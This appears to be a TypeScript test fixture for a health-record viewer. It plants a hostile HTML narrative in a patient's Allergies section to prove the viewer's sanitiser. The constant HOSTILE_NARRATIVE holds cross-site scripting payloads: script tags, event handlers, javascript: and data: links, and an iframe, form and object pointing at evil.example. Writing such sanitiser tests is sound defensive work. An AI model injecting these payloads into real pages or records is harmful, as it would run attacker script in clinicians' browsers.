/**
 * The world for the page tests (citizen portal, professional viewer): the shared test world with
 * the Spanish gateway restarted as a sandbox gateway, plus a hostile narrative to prove the viewer's
 * sanitiser.
 */
import { readFile, writeFile } from 'node:fs/promises';
import type { Bundle } from '@medplum/fhirtypes';
import { KENNETH } from '../../sandbox/seed.js';
import { startTestGateway } from './gateway.js';
import { startWorld, type World } from './world.js';


/** What a hostile author (or a compromised national system) could put in a section narrative. */
export const HOSTILE_NARRATIVE =
  '<div xmlns="http://www.w3.org/1999/xhtml"><p>Allergy to penicillin, see the <a href="#top">top</a></p>' +
  '<script>alert(1)</script><img src="x" onerror="alert(2)" alt="x-ray"><a href="javascript:alert(3)">click me</a>' +
  '<iframe src="https://evil.example/"></iframe><p onclick="alert(4)" style="background:url(https://evil.example/t.png)">High criticality</p>' +
  '<form action="https://evil.example/"><input name="q"><button>Go</button></form><object data="https://evil.example/x.swf">obj</object>' +
  '<svg><script>alert(5)</script></svg><a href="data:text/html,&lt;script&gt;alert(6)&lt;/script&gt;">data</a><style>body{display:none}</style></div>';

export interface PortalWorld {
  readonly world: World;
  close(): Promise<void>;
}

/**
 * The test world, with the Spanish gateway restarted as a sandbox gateway: the viewer signs
 * professionals in only where `sandbox` is true, and the shared test world's configs are not marked.
 */
export async function startPortalWorld(): Promise<PortalWorld> {
  const world = await startWorld();
  try {
    await world.stopGateway('ES');
    const file = world.deployment.configFile('ES');
    const doc = JSON.parse(await readFile(file, 'utf8')) as Record<string, unknown>;
    await writeFile(file, JSON.stringify({ ...doc, sandbox: true }, null, 2));
    const es = await startTestGateway(world.deployment, 'ES');
    return {
      world,
      close: async () => {
        await es.stop().catch(() => undefined);
        await world.close();
      },
    };
  } catch (e) {
    await world.close();
    throw e;
  }
}

/** Kenneth's stored IPS document gets the hostile narrative in its Allergies section. */
export async function makeKennethNarrativeHostile(world: World): Promise<void> {
  const repo = world.dk.fhir.repo;
  const bundle = await repo.readResource<Bundle>('Bundle', KENNETH.documentId ?? '');
  const composition = bundle.entry?.[0]?.resource;
  if (composition?.resourceType !== 'Composition') throw new Error('Kenneth\'s document has no Composition');
  const allergies = composition.section?.find((s) => s.code?.coding?.some((c) => c.code === '48765-2') === true);
  if (allergies === undefined) throw new Error('Kenneth\'s document has no Allergies section');
  allergies.text = { status: 'generated', div: HOSTILE_NARRATIVE };
  await repo.updateResource(bundle);
}
